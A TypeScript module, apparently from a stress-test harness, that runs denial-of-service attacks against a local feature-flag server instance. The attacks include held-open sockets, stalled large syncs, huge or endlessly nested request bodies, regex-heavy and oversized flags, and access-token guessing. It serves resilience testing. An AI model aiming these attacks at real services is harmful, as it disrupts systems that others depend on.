import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { encodeConnectionToken } from 'fbclient/core';
import type { Random } from '../random.js';
import { flagCalled } from './flags.js';
import type { Victim } from './messages.js';

/** An attack goes on until it is aborted; what it did is counted. */
export interface Attack {
  readonly name: string;
  run(victim: Victim, random: Random, signal: AbortSignal, count: () => void): Promise<void>;
}

/** Others come from elsewhere: an address of this machine that is not the one of the good. */
const ELSEWHERE = '127.0.0.2';

export const ATTACKS: readonly Attack[] = [
  {
    name: 'refused upgrades whose sender keeps its side open',
    run: (victim, random, signal, count) =>
      keepOpen(200, victim, random, signal, count, () => upgrade('/nope', 'x'.repeat(22))),
  },
  {
    name: 'streams that stall in a full sync of 11 MB',
    run: (victim, random, signal, count) =>
      keepOpen(8, victim, random, signal, count, () => {
        const token = encodeURIComponent(encodeConnectionToken(victim.serverSecret, Date.now(), random.next()));
        return [upgrade(`/streaming?type=server&token=${token}`, 'A'.repeat(22)), askForEverything()];
      }),
  },
  {
    name: 'polls of 11 MB that are not read',
    run: (victim, random, signal, count) =>
      keepOpen(600, victim, random, signal, count, () => [
        request('GET', '/api/public/sdk/server/latest-all', victim.serverSecret),
      ]),
  },
  {
    name: 'bodies that do not come',
    run: (victim, random, signal, count) =>
      keepOpen(100, victim, random, signal, count, () => [
        request('POST', '/api/public/insight/track', victim.serverSecret, 1_000_000),
        '[',
      ]),
  },
  {
    name: 'insights of made-up flags, by client secret',
    run: (victim, random, signal, count) =>
      again(signal, 100, count, () =>
        post(victim, '/api/public/insight/track', victim.clientSecret, evaluations(2_000, random)),
      ),
  },
  {
    name: 'insights of 15,000 made-up flags, by server secret',
    run: (victim, random, signal, count) => {
      const body = evaluations(15_000, random);
      return again(signal, 1_000, count, () => post(victim, '/api/public/insight/track', victim.serverSecret, body));
    },
  },
  {
    name: 'insights nested without end',
    run: (victim, _random, signal, count) =>
      again(signal, 200, count, () =>
        post(victim, '/api/public/insight/track', victim.clientSecret, '['.repeat(200_000)),
      ),
  },
  {
    name: 'flags with 200 patterns',
    run: (victim, random, signal, count) =>
      again(signal, 1_000, count, () => {
        const salt = random.between(0, 1e9);
        const conditions = Array.from({ length: 200 }, (_, index) => ({
          property: 'email',
          op: 'MatchRegex',
          value: `^(?:user|guest)[-_.]${salt}-${index}-[a-z\\d]{2,40}@(?:[a-z]+\\.){1,8}(?:org|com|net)$`,
        }));
        const rules = [{ conditions, variations: [{ id: 'on', rollout: [0, 1] }] }];
        return put(victim, 'large', flagCalled('patterns', 'x', { rules }));
      }),
  },
  {
    name: 'flags that name 100,000 unknown segments',
    run: (victim, _random, signal, count) => {
      const ids = JSON.stringify(Array.from({ length: 100_000 }, (_, index) => `s${index}`));
      const conditions = [{ property: 'User is in segment', op: null, value: ids }];
      const rules = [{ conditions, variations: [{ id: 'on', rollout: [0, 1] }] }];
      const flag = flagCalled('segments', 'x', { rules });
      return again(signal, 2_000, count, () => put(victim, 'large', flag));
    },
  },
  {
    name: 'flags of 1.5 MB until the environment is full',
    run: (victim, random, signal, count) =>
      again(signal, 500, count, () =>
        put(victim, 'full', flagCalled(`fill-${random.between(0, 1e9)}`, 'x'.repeat(1_500_000))),
      ),
  },
  {
    name: 'wrong access tokens',
    run: (victim, random, signal, count) =>
      again(signal, 5, count, () => {
        const guess = request('GET', '/api/v1/environments', `Bearer guess-${random.between(0, 1e9)}`);
        return new Promise((resolve) => {
          const socket = open(victim, [guess]);
          socket.once('data', () => socket.destroy());
          socket.once('close', () => resolve(undefined));
        });
      }),
  },
];

function upgrade(path: string, key: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}==\r\n\r\n`;
}

/** A text frame, masked with nothing. */
function askForEverything(): Buffer {
  const text = '{"messageType":"data-sync","data":{"timestamp":0}}';
  return Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)]);
}

function request(method: string, path: string, authorization: string, length = 0): string {
  const body = length === 0 ? '' : `Content-Length: ${length}\r\n`;
  return `${method} ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n${body}\r\n`;
}

/** The body of insights of made-up flags. */
function evaluations(howMany: number, random: Random): string {
  const name = random.between(0, 1e9).toString(36);
  const variations = Array.from({ length: howMany }, (_, index) => ({
    featureFlagKey: `${name}-${index}`,
    variation: { id: 'on' },
  }));
  return JSON.stringify([{ user: { keyId: 'u' }, variations }]);
}

function open({ url }: Victim, messages: readonly (string | Buffer)[]): Socket {
  const { port, hostname } = new URL(url);
  // Of all systems Linux alone has the whole network on its loopback.
  const from = process.platform === 'linux' ? { localAddress: ELSEWHERE } : {};
  const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true, ...from });
  socket.on('error', () => socket.destroy());
  for (const message of messages) socket.write(message);
  return socket;
}

/** Keeps connections open that are never read; each that is cut is made again. */
async function keepOpen(
  howMany: number,
  victim: Victim,
  random: Random,
  signal: AbortSignal,
  count: () => void,
  messages: () => string | readonly (string | Buffer)[],
): Promise<void> {
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      await pause(random.between(0, 500), signal);
      if (signal.aborted) return;
      const written = messages();
      const socket = open(victim, typeof written === 'string' ? [written] : written);
      socket.pause();
      count();
      await new Promise<void>((resolve) => {
        // A paused socket does not notice that its peer is gone, but a write on it does.
        const probing = setInterval(() => socket.write(''), 500);
        signal.addEventListener('abort', () => socket.destroy(), { once: true });
        socket.once('close', () => {
          clearInterval(probing);
          resolve();
        });
      });
    }
  };
  await Promise.all(Array.from({ length: howMany }, one));
}

/** Does something again and again. */
async function again(
  signal: AbortSignal,
  interval: number,
  count: () => void,
  attempt: () => Promise<unknown>,
): Promise<void> {
  while (!signal.aborted) {
    await attempt().catch(() => undefined);
    count();
    await pause(interval, signal);
  }
}

function pause(milliseconds: number, signal: AbortSignal): Promise<void> {
  return setTimeout(milliseconds, undefined, { signal }).catch(() => undefined);
}

async function post({ url }: Victim, path: string, authorization: string, body: unknown): Promise<void> {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const answer = await fetch(url + path, { method: 'POST', headers: { authorization }, body: text });
  await answer.arrayBuffer();
}

async function put({ url, adminToken }: Victim, environment: string, flag: object): Promise<void> {
  const { key } = flag as { readonly key: string };
  const answer = await fetch(`${url}/api/v1/environments/${environment}/flags/${key}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${adminToken}` },
    body: JSON.stringify(flag),
  });
  await answer.arrayBuffer();
}
